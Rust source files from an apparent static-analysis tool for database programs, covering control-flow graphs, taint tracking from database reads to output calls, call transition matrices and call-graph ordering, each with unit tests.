                    then_branch,
                    else_branch,
                } => {
                    cur = self.lower_expr_calls(cond, cur);
                    // Branch point: a fresh no-call node with two successors
                    // so the conditional probability is 1/2 (eq. 1).
                    let branch = self.new_node(None);
                    self.edge(cur, branch);
                    let join = self.new_node(None);

                    let then_entry = self.new_node(None);
                    self.edge(branch, then_entry);
                    if let Some(t_end) = self.lower_block(then_branch, then_entry, loop_exits) {
                        self.edge(t_end, join);
                    }

                    let else_entry = self.new_node(None);
                    self.edge(branch, else_entry);
                    if let Some(e_end) = self.lower_block(else_branch, else_entry, loop_exits) {
                        self.edge(e_end, join);
                    }
                    cur = join;
                }
                Stmt::While { cond, body } => {
                    cur = self.lower_expr_calls(cond, cur);
                    let branch = self.new_node(None);
                    self.edge(cur, branch);
                    let after = self.new_node(None);
                    let body_entry = self.new_node(None);
                    self.edge(branch, body_entry);
                    self.edge(branch, after);
                    loop_exits.push(after);
                    if let Some(b_end) = self.lower_block(body, body_entry, loop_exits) {
                        // Back edge redirected to the loop exit.
                        self.edge(b_end, after);
                    }
                    loop_exits.pop();
                    cur = after;
                }
                Stmt::For {
                    init,
                    cond,
                    step,
                    body,
                } => {
                    if let Some(c) =
                        self.lower_block(std::slice::from_ref(init.as_ref()), cur, loop_exits)
                    {
                        cur = c;
                    } else {
                        return None;
                    }
                    cur = self.lower_expr_calls(cond, cur);
                    let branch = self.new_node(None);
                    self.edge(cur, branch);
                    let after = self.new_node(None);
                    let body_entry = self.new_node(None);
                    self.edge(branch, body_entry);
                    self.edge(branch, after);
                    loop_exits.push(after);
                    if let Some(b_end) = self.lower_block(body, body_entry, loop_exits) {
                        let s_end = self.lower_block(
                            std::slice::from_ref(step.as_ref()),
                            b_end,
                            loop_exits,
                        );
                        if let Some(s_end) = s_end {
                            self.edge(s_end, after);
                        }
                    }
                    loop_exits.pop();
                    cur = after;
                }
            }
        }
        Some(cur)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use adprom_lang::parse_program;

    fn cfg_of(src: &str, func: &str) -> Cfg {
        let prog = parse_program(src).unwrap();
        build_cfg(prog.function(func).unwrap(), &[])
    }

    #[test]
    fn straight_line_chains_calls() {
        let cfg = cfg_of("fn main() { puts(\"a\"); puts(\"b\"); }", "main");
        let calls: Vec<_> = cfg.call_nodes().collect();
        assert_eq!(calls.len(), 2);
        // entry -> c1 -> c2 -> exit
        assert_eq!(cfg.succ[ENTRY], vec![calls[0].id]);
        assert_eq!(cfg.succ[calls[0].id], vec![calls[1].id]);
        assert_eq!(cfg.succ[calls[1].id], vec![EXIT]);
    }

    #[test]
    fn nested_call_linearized_before_outer() {
        // printf("%s", PQgetvalue(..)) must produce PQgetvalue -> printf.
        let cfg = cfg_of("fn main() { printf(\"%s\", PQgetvalue(r, 0, 0)); }", "main");
        let calls: Vec<_> = cfg.call_nodes().collect();
        assert_eq!(calls.len(), 2);
        assert_eq!(calls[0].call.as_ref().unwrap().callee.name(), "PQgetvalue");
        assert_eq!(calls[1].call.as_ref().unwrap().callee.name(), "printf");
        assert_eq!(cfg.succ[calls[0].id], vec![calls[1].id]);
    }

    #[test]
    fn if_creates_branch_with_two_successors() {
        let cfg = cfg_of(
            "fn main() { if (x > 0) { puts(\"a\"); } else { puts(\"b\"); } }",
            "main",
        );
        // Find the node with out-degree 2.
        let branches: Vec<_> = (0..cfg.nodes.len())
            .filter(|&i| cfg.out_degree(i) == 2)
            .collect();
        assert_eq!(branches.len(), 1);
        let order = cfg.topo_order();
        assert_eq!(order.len(), cfg.nodes.len());
    }

    #[test]
    fn while_is_acyclic_after_redirect() {
        let cfg = cfg_of(
            "fn main() { let i = 0; while (i < 3) { puts(\"x\"); i = i + 1; } puts(\"done\"); }",
            "main",
        );
        // topo_order would debug-panic on a cycle; also every node is present.
        assert_eq!(cfg.topo_order().len(), cfg.nodes.len());
        // The loop-body call node's flow reaches the after node, not back.
        let calls: Vec<_> = cfg.call_nodes().collect();
        assert_eq!(calls.len(), 2);
    }

    #[test]
    fn return_connects_to_exit() {
        let cfg = cfg_of("fn main() { if (x) { return; } puts(\"after\"); }", "main");
        assert_eq!(cfg.topo_order().len(), cfg.nodes.len());
        let pred = cfg.predecessors();
        assert!(!pred[EXIT].is_empty());
    }

    #[test]
    fn break_targets_loop_exit() {
        let cfg = cfg_of(
            "fn main() { while (1) { if (x) { break; } puts(\"body\"); } puts(\"after\"); }",
            "main",
        );
        assert_eq!(cfg.topo_order().len(), cfg.nodes.len());
    }

    #[test]
    fn skip_recursive_callee_omits_node() {
        let src = "fn main() { rec(1); }\nfn rec(x) { rec(x); }";
        let prog = parse_program(src).unwrap();
        let cfg = build_cfg(prog.function("rec").unwrap(), &["rec".to_string()]);
        assert_eq!(cfg.call_nodes().count(), 0);
        let cfg_main = build_cfg(prog.function("main").unwrap(), &[]);
        assert_eq!(cfg_main.call_nodes().count(), 1);
    }

    #[test]
    fn condition_calls_lowered_before_branch() {
        let cfg = cfg_of(
            "fn main() { if (strcmp(a, b) == 0) { puts(\"eq\"); } }",
            "main",
        );
        let calls: Vec<_> = cfg.call_nodes().collect();
        assert_eq!(calls[0].call.as_ref().unwrap().callee.name(), "strcmp");
    }
}
