//! Data-dependency graph (DDG): interprocedural taint analysis from DB input
//! statements to output statements (§IV-B1, §IV-C1).
//!
//! Sources are the library calls that retrieve the targeted data (TD) from
//! the database (`PQexec`, `PQgetvalue`, `mysql_store_result`,
//! `mysql_fetch_row`, …); sinks are the output statements the paper lists
//! (`printf`, `fprintf`, `sprintf`, `snprintf`, `fputc`, `fputs`, `write`,
//! `fwrite`, …). The analysis is a flow-insensitive fixpoint over variable
//! taint, propagated:
//!
//! * through assignments and expressions,
//! * through buffer propagators (`strcpy(dst, src)` taints `dst`),
//! * interprocedurally through user-function parameters and return values
//!   (context-insensitive).
//!
//! The result is the set of *output call sites whose arguments may carry the
//! TD* — exactly the sites the Analyzer labels `name_Q<bid>`.

use adprom_lang::{CallSiteId, Callee, Expr, LibCall, Program, Stmt};
use std::collections::{HashMap, HashSet};

/// Result of the taint analysis.
#[derive(Debug, Clone, Default)]
pub struct Ddg {
    /// Output call sites that may emit DB-derived data.
    pub tainted_sinks: HashSet<CallSiteId>,
    /// Variables found tainted, per function (diagnostic / test surface).
    pub tainted_vars: HashMap<String, HashSet<String>>,
    /// Functions whose return value may carry the TD.
    pub tainted_returns: HashSet<String>,
}

impl Ddg {
    /// True if the given site was labeled as a potential data-leak sink.
    pub fn is_labeled(&self, site: CallSiteId) -> bool {
        self.tainted_sinks.contains(&site)
    }
}

/// Runs the interprocedural taint fixpoint over a program.
pub fn analyze_ddg(prog: &Program) -> Ddg {
    let mut state = State {
        vars: HashMap::new(),
        returns: HashSet::new(),
        param_taint: HashMap::new(),
        sinks: HashSet::new(),
    };

    // Seed parameter-taint tracking so map lookups are cheap.
    for f in &prog.functions {
        state.vars.insert(f.name.clone(), HashSet::new());
    }

    // Fixpoint: each pass propagates one more "hop"; bounded by the total
    // number of (function, variable) pairs.
    loop {
        let before = state.fingerprint();
        for f in &prog.functions {
            // Pull parameter taint discovered at call sites into locals.
            let incoming: Vec<String> = f
                .params
                .iter()
                .filter(|p| {
                    state
                        .param_taint
                        .get(&f.name)
                        .is_some_and(|set| set.contains(*p))
                })
                .cloned()
                .collect();
            for p in incoming {
                state.taint_var(&f.name, &p);
            }
            for stmt in &f.body {
                visit_stmt(stmt, &f.name, &mut state, prog);
            }
        }
        if state.fingerprint() == before {
            break;
        }
    }

    Ddg {
        tainted_sinks: state.sinks,
        tainted_vars: state.vars,
        tainted_returns: state.returns,
    }
}

struct State {
    /// function -> tainted variable names.
    vars: HashMap<String, HashSet<String>>,
    /// functions with tainted return values.
    returns: HashSet<String>,
    /// function -> parameters that receive taint from some call site.
    param_taint: HashMap<String, HashSet<String>>,
    /// labeled sink sites.
    sinks: HashSet<CallSiteId>,
}

impl State {
    fn fingerprint(&self) -> (usize, usize, usize, usize) {
        (
            self.vars.values().map(HashSet::len).sum(),
            self.returns.len(),
            self.param_taint.values().map(HashSet::len).sum(),
            self.sinks.len(),
        )
    }

    fn taint_var(&mut self, func: &str, var: &str) {
        self.vars
            .entry(func.to_string())
            .or_default()
            .insert(var.to_string());
    }

    fn var_tainted(&self, func: &str, var: &str) -> bool {
        self.vars.get(func).is_some_and(|set| set.contains(var))
    }
}

/// Computes the taint of an expression, recording side effects (sink labels,
/// propagator taint, interprocedural parameter taint) along the way.
fn expr_taint(e: &Expr, func: &str, state: &mut State, prog: &Program) -> bool {
    match e {
        Expr::Int(_) | Expr::Float(_) | Expr::Str(_) | Expr::Bool(_) | Expr::Null => false,
        Expr::Var(v) => state.var_tainted(func, v),
        Expr::Binary(_, a, b) | Expr::Index(a, b) => {
            let ta = expr_taint(a, func, state, prog);
            let tb = expr_taint(b, func, state, prog);
            ta || tb
        }
        Expr::Unary(_, a) => expr_taint(a, func, state, prog),
        Expr::Call {
            site, callee, args, ..
        } => {
            let arg_taints: Vec<bool> = args
                .iter()
                .map(|a| expr_taint(a, func, state, prog))
                .collect();
            let any_arg_tainted = arg_taints.iter().any(|&t| t);
            match callee {
                Callee::Library(lc) => {
                    // Propagators move taint into their destination buffer.
                    if let Some(dst) = lc.propagates_to_arg() {
                        let source_tainted =
                            arg_taints.iter().enumerate().any(|(i, &t)| i != dst && t);
                        if source_tainted {
                            if let Some(Expr::Var(v)) = args.get(dst) {
                                state.taint_var(func, v);
                            }
                        }
                    }
                    // Output sinks with tainted arguments get labeled.
                    if lc.is_output_sink() && any_arg_tainted {
                        state.sinks.insert(*site);
                    }
                    // Sources return the TD.
                    lc.is_db_source() || (taint_through_handle(*lc) && any_arg_tainted)
                }
                Callee::User(name) => {
                    // Propagate taint into callee parameters.
                    if let Some(f) = prog.function(name) {
                        for (param, &tainted) in f.params.iter().zip(&arg_taints) {
                            if tainted {
                                state
                                    .param_taint
                                    .entry(name.clone())
                                    .or_default()
                                    .insert(param.clone());
                            }
                        }
                    }
                    state.returns.contains(name)
                }
            }
        }
    }
}

/// Calls whose return value carries taint when an argument does — e.g.
/// `PQntuples(result)` returns metadata of a tainted handle. Row *counts*
/// are metadata, not the TD itself; only value accessors stay tainted.
fn taint_through_handle(lc: LibCall) -> bool {
    matches!(lc, LibCall::Strstr | LibCall::Atoi | LibCall::Atof)
}

fn visit_stmt(stmt: &Stmt, func: &str, state: &mut State, prog: &Program) {
    match stmt {
        Stmt::Let(name, e) | Stmt::Assign(name, e) => {
            if expr_taint(e, func, state, prog) {
                state.taint_var(func, name);
            }
        }
        Stmt::Expr(e) => {
            expr_taint(e, func, state, prog);
        }
        Stmt::If {
            cond,
            then_branch,
            else_branch,
        } => {
            expr_taint(cond, func, state, prog);
            for s in then_branch.iter().chain(else_branch) {
                visit_stmt(s, func, state, prog);
            }
        }
        Stmt::While { cond, body } => {
            expr_taint(cond, func, state, prog);
            for s in body {
                visit_stmt(s, func, state, prog);
            }
        }
        Stmt::For {
            init,
            cond,
            step,
            body,
        } => {
            visit_stmt(init, func, state, prog);
            expr_taint(cond, func, state, prog);
            visit_stmt(step, func, state, prog);
            for s in body {
                visit_stmt(s, func, state, prog);
            }
        }
        Stmt::Return(Some(e)) => {
            if expr_taint(e, func, state, prog) {
                state.returns.insert(func.to_string());
            }
        }
        Stmt::Return(None) | Stmt::Break | Stmt::Continue => {}
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use adprom_lang::parse_program;

    fn labeled_sinks(src: &str) -> Vec<(String, u32)> {
        let prog = parse_program(src).unwrap();
        let ddg = analyze_ddg(&prog);
        let mut out = Vec::new();
        prog.for_each_call(|site, callee, _| {
            if ddg.is_labeled(site) {
                out.push((callee.name().to_string(), site.0));
            }
        });
        out
    }

    #[test]
    fn direct_print_of_query_result_is_labeled() {
        // The Fig. 1 pattern.
        let sinks = labeled_sinks(
            r#"
            fn main() {
                let result = PQexec(conn, "SELECT * FROM items WHERE ID = 10");
                let rows = PQntuples(result);
                for (let r = 0; r < rows; r = r + 1) {
                    printf("%s", PQgetvalue(result, r, 0));
                }
            }
            "#,
        );
        assert_eq!(sinks.len(), 1);
        assert_eq!(sinks[0].0, "printf");
    }

    #[test]
    fn untainted_print_is_not_labeled() {
        let sinks = labeled_sinks(
            r#"
            fn main() {
                let result = PQexec(conn, "SELECT 1");
                printf("done");
            }
            "#,
        );
        assert!(sinks.is_empty());
    }

    #[test]
    fn row_count_is_metadata_not_td() {
        // Printing PQntuples(result) is not a leak of the TD.
        let sinks = labeled_sinks(
            r#"
            fn main() {
                let result = PQexec(conn, "SELECT * FROM t");
                let n = PQntuples(result);
                printf("%d rows", n);
            }
            "#,
        );
        assert!(sinks.is_empty());
    }

    #[test]
    fn strcpy_propagates_taint() {
        let sinks = labeled_sinks(
            r#"
            fn main() {
                let row = mysql_fetch_row(result);
                let buf = "";
                strcpy(buf, row[0]);
                fputs(buf, f);
            }
            "#,
        );
        assert_eq!(sinks.len(), 1);
        assert_eq!(sinks[0].0, "fputs");
    }

    #[test]
    fn taint_flows_through_user_function_param() {
        let sinks = labeled_sinks(
            r#"
            fn main() {
                let v = PQgetvalue(r, 0, 0);
                show(v);
            }
            fn show(x) {
                printf("%s", x);
            }
            "#,
        );
        assert_eq!(sinks.len(), 1);
        assert_eq!(sinks[0].0, "printf");
    }

    #[test]
    fn taint_flows_through_user_function_return() {
        let sinks = labeled_sinks(
            r#"
            fn main() {
                let v = fetch(r);
                fprintf(f, "%s", v);
            }
            fn fetch(r) {
                return PQgetvalue(r, 0, 0);
            }
            "#,
        );
        assert_eq!(sinks.len(), 1);
        assert_eq!(sinks[0].0, "fprintf");
    }

    #[test]
    fn clean_function_chain_stays_clean() {
        let sinks = labeled_sinks(
            r#"
            fn main() {
                let v = greet();
                printf("%s", v);
            }
            fn greet() {
                return "hello";
            }
            "#,
        );
        assert!(sinks.is_empty());
    }

    #[test]
    fn mysql_fetch_row_is_source() {
        let sinks = labeled_sinks(
            r#"
            fn main() {
                mysql_query(conn, "SELECT * FROM clients");
                let result = mysql_store_result(conn);
                let row = mysql_fetch_row(result);
                while (row != null) {
                    printf("%s ", row[0]);
                    row = mysql_fetch_row(result);
                }
            }
            "#,
        );
        assert_eq!(sinks.len(), 1);
    }

    #[test]
    fn two_sinks_both_labeled() {
        let sinks = labeled_sinks(
            r#"
            fn main() {
                let v = PQgetvalue(r, 0, 0);
                printf("%s", v);
                fwrite(v, 1, 10, f);
                puts("static text");
            }
            "#,
        );
        let names: Vec<&str> = sinks.iter().map(|(n, _)| n.as_str()).collect();
        assert_eq!(names, vec!["printf", "fwrite"]);
    }
}
