//! Call Transition Matrices (CTMs) — §IV-C2, equation 3.
//!
//! The CTM of a function records, for each ordered pair of calls `(c_i →
//! c_j)`, the probability that `c_j` is the next call after `c_i`. Virtual
//! entry ε and exit ε′ participate as pseudo-calls (Tables I–II of the
//! paper). The transition probability from the call at node `n_x` to the
//! call at node `n_y` is
//!
//! ```text
//! P^t = P^r_x · Π_{k=x}^{y-1} P^c_{k,k+1}        (eq. 3)
//! ```
//!
//! summed over every directed path from `n_x` to `n_y` whose intermediate
//! nodes make no call (the paper's worked example is the single-path case).

use crate::cfg::{Cfg, ENTRY, EXIT};
use crate::forecast::Forecast;
use adprom_lang::{CallSiteId, Callee};
use serde::{Deserialize, Serialize};
use std::collections::HashMap;
use std::fmt;

/// A label in the CTM alphabet.
#[derive(Debug, Clone, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
pub enum CallLabel {
    /// Virtual entry ε.
    Entry,
    /// Virtual exit ε′.
    Exit,
    /// A library call, possibly DDG-decorated (`printf_Q6`).
    Lib(String),
    /// A call to a user-defined function (removed by aggregation).
    User(String),
}

impl CallLabel {
    /// Observation-alphabet name of the label.
    pub fn name(&self) -> &str {
        match self {
            CallLabel::Entry => "ε",
            CallLabel::Exit => "ε'",
            CallLabel::Lib(s) | CallLabel::User(s) => s,
        }
    }

    /// True for ε/ε′.
    pub fn is_virtual(&self) -> bool {
        matches!(self, CallLabel::Entry | CallLabel::Exit)
    }
}

impl fmt::Display for CallLabel {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.name())
    }
}

/// A call transition matrix over a label alphabet.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Ctm {
    labels: Vec<CallLabel>,
    index: HashMap<CallLabel, usize>,
    /// Row-major transition probabilities; `m[i][j] = P(labels[i] →
    /// labels[j])`.
    m: Vec<Vec<f64>>,
}

impl Default for Ctm {
    fn default() -> Ctm {
        Ctm::new()
    }
}

impl Ctm {
    /// Creates an empty CTM holding only ε and ε′.
    pub fn new() -> Ctm {
        let mut ctm = Ctm {
            labels: Vec::new(),
            index: HashMap::new(),
            m: Vec::new(),
        };
        ctm.ensure(CallLabel::Entry);
        ctm.ensure(CallLabel::Exit);
        ctm
    }

    /// The label alphabet, ε first, ε′ second, then calls in insertion order.
    pub fn labels(&self) -> &[CallLabel] {
        &self.labels
    }

    /// Number of labels (matrix dimension).
    pub fn dim(&self) -> usize {
        self.labels.len()
    }

    /// Index of a label, if present.
    pub fn index_of(&self, label: &CallLabel) -> Option<usize> {
        self.index.get(label).copied()
    }

    /// Ensures a label exists, returning its index.
    pub fn ensure(&mut self, label: CallLabel) -> usize {
        if let Some(&i) = self.index.get(&label) {
            return i;
        }
        let i = self.labels.len();
        self.labels.push(label.clone());
        self.index.insert(label, i);
        for row in &mut self.m {
            row.push(0.0);
        }
        self.m.push(vec![0.0; i + 1]);
        i
    }

    /// Transition probability between two labels (0 when either is absent).
    pub fn get(&self, from: &CallLabel, to: &CallLabel) -> f64 {
        match (self.index_of(from), self.index_of(to)) {
            (Some(i), Some(j)) => self.m[i][j],
            _ => 0.0,
        }
    }

    /// Raw entry by index.
    pub fn at(&self, i: usize, j: usize) -> f64 {
        self.m[i][j]
    }

    /// Adds probability mass to a transition.
    pub fn add(&mut self, from: CallLabel, to: CallLabel, p: f64) {
        let i = self.ensure(from);
        let j = self.ensure(to);
        self.m[i][j] += p;
    }

    /// Sets a transition probability.
    pub fn set(&mut self, from: CallLabel, to: CallLabel, p: f64) {
        let i = self.ensure(from);
        let j = self.ensure(to);
        self.m[i][j] = p;
    }

    /// Sum of the ε row — property (1) of the pCTM: must be 1.
    pub fn entry_row_sum(&self) -> f64 {
        self.m[0].iter().sum()
    }

    /// Sum of the ε′ column — property (2) of the pCTM: must be 1.
    pub fn exit_col_sum(&self) -> f64 {
        self.m.iter().map(|row| row[1]).sum()
    }

    /// Flow imbalance of a call label: |inflow − outflow| (property (3):
    /// conserved flow for every call).
    pub fn flow_imbalance(&self, label: &CallLabel) -> f64 {
        let Some(i) = self.index_of(label) else {
            return 0.0;
        };
        let inflow: f64 = self.m.iter().map(|row| row[i]).sum();
        let outflow: f64 = self.m[i].iter().sum();
        (inflow - outflow).abs()
    }

    /// Removes a label's row and column (used when in-lining a callee).
    pub fn remove(&mut self, label: &CallLabel) {
        let Some(i) = self.index_of(label) else {
            return;
        };
        self.labels.remove(i);
        self.index.remove(label);
        for (l, idx) in self.index.iter_mut() {
            let _ = l;
            if *idx > i {
                *idx -= 1;
            }
        }
        self.m.remove(i);
        for row in &mut self.m {
            row.remove(i);
        }
    }

    /// The user-function labels still present (aggregation targets).
    pub fn user_labels(&self) -> Vec<CallLabel> {
        self.labels
            .iter()
            .filter(|l| matches!(l, CallLabel::User(_)))
            .cloned()
            .collect()
    }

    /// Renders the matrix as an aligned table (Tables I–II style).
    pub fn render_table(&self, title: &str) -> String {
        let mut out = String::new();
        let width = self
            .labels
            .iter()
            .map(|l| l.name().len())
            .max()
            .unwrap_or(4)
            .max(6);
        out.push_str(&format!("{title:width$} |"));
        for l in &self.labels {
            out.push_str(&format!(" {:>width$}", l.name()));
        }
        out.push('\n');
        for (i, l) in self.labels.iter().enumerate() {
            out.push_str(&format!("{:width$} |", l.name()));
            for j in 0..self.labels.len() {
                out.push_str(&format!(" {:>width$.4}", self.m[i][j]));
            }
            out.push('\n');
            let _ = l;
        }
        out
    }
}

/// Builds the CTM of one function from its CFG and forecast.
///
/// `site_labels` maps library call sites to their observation names
/// (DDG-labeled sites carry `_Q<bid>` suffixes).
pub fn build_ctm(cfg: &Cfg, forecast: &Forecast, site_labels: &HashMap<CallSiteId, String>) -> Ctm {
    let mut ctm = Ctm::new();
    let node_label = |id: usize| -> Option<CallLabel> {
        let node = &cfg.nodes[id];
        match (&node.call, id) {
            (_, ENTRY) => Some(CallLabel::Entry),
            (_, EXIT) => Some(CallLabel::Exit),
            (Some(call), _) => Some(match &call.callee {
                Callee::Library(lc) => CallLabel::Lib(
                    site_labels
                        .get(&call.site)
                        .cloned()
                        .unwrap_or_else(|| lc.name().to_string()),
                ),
                Callee::User(name) => CallLabel::User(name.clone()),
            }),
            (None, _) => None,
        }
    };

    // Pre-register every call label so functions whose calls are unreachable
    // still surface them in the alphabet with zero probability.
    for node in cfg.call_nodes() {
        if let Some(l) = node_label(node.id) {
            ctm.ensure(l);
        }
    }

    let topo = cfg.topo_order();
    let topo_pos: Vec<usize> = {
        let mut pos = vec![0; cfg.nodes.len()];
        for (i, &v) in topo.iter().enumerate() {
            pos[v] = i;
        }
        pos
    };

    // Sources: entry plus every call node.
    let sources: Vec<usize> = std::iter::once(ENTRY)
        .chain(cfg.call_nodes().map(|n| n.id))
        .collect();

    for &s in &sources {
        let src_label = node_label(s).expect("source is entry or call node");
        let r = forecast.reach[s];
        if r == 0.0 {
            continue;
        }
        // DP over topo order: g[v] = Σ over call-free paths s→v of the
        // conditional-probability product.
        let mut g = vec![0.0f64; cfg.nodes.len()];
        // Seed the successors of s.
        for &w in &cfg.succ[s] {
            g[w] += forecast.cond[s];
        }
        // Propagate through no-call intermediate nodes in topo order.
        let start_pos = topo_pos[s];
        for &v in topo.iter().skip(start_pos + 1) {
            if g[v] == 0.0 {
                continue;
            }
            let stops_here = v == EXIT || cfg.nodes[v].call.is_some();
            if stops_here {
                let dst_label = node_label(v).expect("stop node has a label");
                ctm.add(src_label.clone(), dst_label, r * g[v]);
            } else {
                for &w in &cfg.succ[v] {
                    g[w] += g[v] * forecast.cond[v];
                }
            }
        }
    }
    ctm
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::cfg::build_cfg;
    use crate::forecast::forecast;
    use adprom_lang::parse_program;

    fn ctm_of(src: &str) -> Ctm {
        let prog = parse_program(src).unwrap();
        let cfg = build_cfg(prog.entry().unwrap(), &[]);
        let f = forecast(&cfg);
        build_ctm(&cfg, &f, &HashMap::new())
    }

    fn lib(name: &str) -> CallLabel {
        CallLabel::Lib(name.to_string())
    }

    #[test]
    fn straight_line_transitions() {
        let ctm = ctm_of("fn main() { puts(\"a\"); printf(\"b\"); }");
        assert!((ctm.get(&CallLabel::Entry, &lib("puts")) - 1.0).abs() < 1e-12);
        assert!((ctm.get(&lib("puts"), &lib("printf")) - 1.0).abs() < 1e-12);
        assert!((ctm.get(&lib("printf"), &CallLabel::Exit) - 1.0).abs() < 1e-12);
        // No skipping transition: printf is between puts and exit.
        assert_eq!(ctm.get(&lib("puts"), &CallLabel::Exit), 0.0);
        assert_eq!(ctm.get(&CallLabel::Entry, &lib("printf")), 0.0);
    }

    #[test]
    fn branch_splits_probability() {
        // if (x) { puts } else { printf } — each reached with 0.5.
        let ctm = ctm_of("fn main() { if (x) { puts(\"a\"); } else { printf(\"b\"); } }");
        assert!((ctm.get(&CallLabel::Entry, &lib("puts")) - 0.5).abs() < 1e-12);
        assert!((ctm.get(&CallLabel::Entry, &lib("printf")) - 0.5).abs() < 1e-12);
        assert!((ctm.get(&lib("puts"), &CallLabel::Exit) - 0.5).abs() < 1e-12);
        assert!((ctm.get(&lib("printf"), &CallLabel::Exit) - 0.5).abs() < 1e-12);
    }

    #[test]
    fn properties_hold_on_branchy_function() {
        let ctm = ctm_of(
            r#"
            fn main() {
                puts("start");
                if (a) {
                    printf("a");
                    if (b) { putchar(1); }
                } else {
                    while (c) { fputs("w", f); }
                }
                puts("end");
            }
            "#,
        );
        assert!(
            (ctm.entry_row_sum() - 1.0).abs() < 1e-9,
            "entry row sums to 1"
        );
        assert!(
            (ctm.exit_col_sum() - 1.0).abs() < 1e-9,
            "exit col sums to 1"
        );
        for l in ctm.labels().to_vec() {
            if !l.is_virtual() {
                assert!(ctm.flow_imbalance(&l) < 1e-9, "flow conserved at {l}");
            }
        }
    }

    #[test]
    fn call_pair_with_intermediate_call_is_zero() {
        // Paper: the pair (ε, PQexec) is 0 when printf'' sits between.
        let ctm = ctm_of("fn main() { printf(\"x\"); PQexec(c, \"SELECT 1\"); }");
        assert_eq!(ctm.get(&CallLabel::Entry, &lib("PQexec")), 0.0);
        assert!((ctm.get(&lib("printf"), &lib("PQexec")) - 1.0).abs() < 1e-12);
    }

    #[test]
    fn empty_function_has_entry_to_exit_one() {
        let ctm = ctm_of("fn main() { let x = 1; }");
        assert!((ctm.get(&CallLabel::Entry, &CallLabel::Exit) - 1.0).abs() < 1e-12);
    }

    #[test]
    fn user_calls_become_user_labels() {
        let prog = parse_program("fn main() { helper(); }\nfn helper() { }").unwrap();
        let cfg = build_cfg(prog.entry().unwrap(), &[]);
        let f = forecast(&cfg);
        let ctm = build_ctm(&cfg, &f, &HashMap::new());
        assert_eq!(ctm.user_labels(), vec![CallLabel::User("helper".into())]);
    }

    #[test]
    fn ddg_site_labels_decorate_calls() {
        let prog = parse_program("fn main() { printf(\"%s\", v); }").unwrap();
        let cfg = build_cfg(prog.entry().unwrap(), &[]);
        let f = forecast(&cfg);
        let mut site_labels = HashMap::new();
        prog.for_each_call(|site, _, _| {
            site_labels.insert(site, "printf_Q3".to_string());
        });
        let ctm = build_ctm(&cfg, &f, &site_labels);
        assert!((ctm.get(&CallLabel::Entry, &lib("printf_Q3")) - 1.0).abs() < 1e-12);
    }

    #[test]
    fn remove_label_shrinks_matrix() {
        let mut ctm = ctm_of("fn main() { puts(\"a\"); printf(\"b\"); }");
        assert_eq!(ctm.dim(), 4);
        ctm.remove(&lib("puts"));
        assert_eq!(ctm.dim(), 3);
        assert_eq!(ctm.index_of(&lib("puts")), None);
        // Remaining entries intact.
        assert!((ctm.get(&lib("printf"), &CallLabel::Exit) - 1.0).abs() < 1e-12);
    }

    #[test]
    fn diamond_sums_multiple_callfree_paths() {
        // if with empty branches: two call-free paths between the calls.
        let ctm = ctm_of("fn main() { puts(\"pre\"); if (x) { } else { } puts(\"post\"); }");
        // Both paths are call-free, so the transition keeps full mass.
        assert!((ctm.get(&lib("puts"), &lib("puts")) - 1.0).abs() < 1e-12);
    }
}
