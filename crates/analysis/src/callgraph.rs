//! Call graph (CG) construction and ordering.
//!
//! The aggregation step in-lines callee CTMs into caller CTMs in *reverse
//! topological order* of the CG (§IV-C3). Recursive edges (self loops and
//! strongly-connected components) are broken: the paper leaves loops and
//! recursion to the dynamic phase, so recursive call edges are treated as
//! transparent at static-analysis time.

use adprom_lang::{Callee, Program};
use std::collections::HashMap;

/// The call graph of a program.
#[derive(Debug, Clone)]
pub struct CallGraph {
    /// Function names, indexed by function id.
    pub functions: Vec<String>,
    /// `callees[i]` = ids of functions called by function `i` (deduplicated,
    /// in first-call order).
    pub callees: Vec<Vec<usize>>,
}

impl CallGraph {
    /// Builds the CG from a program. Calls to undefined functions are
    /// ignored (the validator reports them separately).
    pub fn build(prog: &Program) -> CallGraph {
        let functions: Vec<String> = prog.functions.iter().map(|f| f.name.clone()).collect();
        let index: HashMap<&str, usize> = functions
            .iter()
            .enumerate()
            .map(|(i, n)| (n.as_str(), i))
            .collect();
        let mut callees = vec![Vec::new(); functions.len()];
        prog.for_each_call(|_, callee, caller| {
            if let Callee::User(name) = callee {
                if let (Some(&ci), Some(&fi)) = (index.get(caller), index.get(name.as_str())) {
                    if !callees[ci].contains(&fi) {
                        callees[ci].push(fi);
                    }
                }
            }
        });
        CallGraph { functions, callees }
    }

    /// Function id by name.
    pub fn id_of(&self, name: &str) -> Option<usize> {
        self.functions.iter().position(|f| f == name)
    }

    /// Strongly connected components (Tarjan). Returns `scc_of[f]` — the
    /// component id of each function. Components are numbered in reverse
    /// topological order of the condensation (callees get lower ids).
    pub fn sccs(&self) -> Vec<usize> {
        // Iterative Tarjan to survive deep graphs.
        let n = self.functions.len();
        let mut index = vec![usize::MAX; n];
        let mut low = vec![0usize; n];
        let mut on_stack = vec![false; n];
        let mut stack: Vec<usize> = Vec::new();
        let mut scc_of = vec![usize::MAX; n];
        let mut next_index = 0usize;
        let mut next_scc = 0usize;

        #[derive(Clone)]
        struct Frame {
            v: usize,
            child: usize,
        }

        for root in 0..n {
            if index[root] != usize::MAX {
                continue;
            }
            let mut call_stack = vec![Frame { v: root, child: 0 }];
            index[root] = next_index;
            low[root] = next_index;
            next_index += 1;
            stack.push(root);
            on_stack[root] = true;

            while let Some(frame) = call_stack.last().cloned() {
                let v = frame.v;
                if frame.child < self.callees[v].len() {
                    let w = self.callees[v][frame.child];
                    call_stack.last_mut().expect("frame present").child += 1;
                    if index[w] == usize::MAX {
                        index[w] = next_index;
                        low[w] = next_index;
                        next_index += 1;
                        stack.push(w);
                        on_stack[w] = true;
                        call_stack.push(Frame { v: w, child: 0 });
                    } else if on_stack[w] {
                        low[v] = low[v].min(index[w]);
                    }
                } else {
                    call_stack.pop();
                    if let Some(parent) = call_stack.last() {
                        let p = parent.v;
                        low[p] = low[p].min(low[v]);
                    }
                    if low[v] == index[v] {
                        loop {
                            let w = stack.pop().expect("stack non-empty in SCC pop");
                            on_stack[w] = false;
                            scc_of[w] = next_scc;
                            if w == v {
                                break;
                            }
                        }
                        next_scc += 1;
                    }
                }
            }
        }
        scc_of
    }

